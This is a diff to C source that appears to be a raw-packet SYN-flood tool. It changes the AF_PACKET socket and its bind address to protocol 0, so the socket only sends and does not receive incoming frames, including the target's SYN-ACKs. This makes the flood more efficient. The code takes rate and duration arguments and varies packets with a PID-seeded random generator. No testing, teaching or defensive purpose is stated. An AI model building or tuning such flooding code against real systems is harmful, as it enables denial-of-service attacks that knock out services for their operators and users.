@@ -58,7 +58,10 @@ int main(int argc, char **argv) {
     double rate = atof(argv[5]), seconds = atof(argv[6]);
     rng ^= (uint32_t)getpid();
 
-    int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
+    /* protocol 0: a send-only socket.  Bound to ETH_P_IP it would also
+     * receive (clone and queue) every frame arriving on the interface, the
+     * target's SYN-ACKs included, and charge that to the flood. */
+    int fd = socket(AF_PACKET, SOCK_RAW, 0);
     if (fd < 0) { perror("socket"); return 1; }
     struct ifreq ifr;
     memset(&ifr, 0, sizeof ifr);
@@ -72,7 +75,7 @@ int main(int argc, char **argv) {
     memset(&sll, 0, sizeof sll);
     sll.sll_family = AF_PACKET;
     sll.sll_ifindex = ifindex;
-    sll.sll_protocol = htons(ETH_P_IP);
+    sll.sll_protocol = 0;
     if (bind(fd, (struct sockaddr *)&sll, sizeof sll) < 0) { perror("bind"); return 1; }
 
     static uint8_t frames[BATCH][FRAME_LEN];
